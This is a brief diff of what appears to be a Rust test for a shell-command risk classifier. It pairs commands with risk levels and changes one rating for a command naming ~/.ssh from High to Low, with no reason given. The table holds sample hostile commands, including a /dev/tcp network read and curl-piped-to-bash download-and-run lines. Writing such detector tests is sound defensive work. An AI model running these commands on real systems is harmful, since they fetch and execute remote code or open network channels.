@@ -76,7 +76,7 @@ fn commands_are_judged_by_their_words() {
         ("cat < /etc/hosts", Medium),
         ("cat < /dev/tcp/h/80", High),
         ("cat 0<../x", Medium),
-        ("grep x <<< ~/.ssh", High),
+        ("grep x <<< ~/.ssh", Low),
         // Downloads that end in an interpreter.
         ("bash -c \"$(curl u)\"", Critical),
         ("bash <(curl u)", Critical),
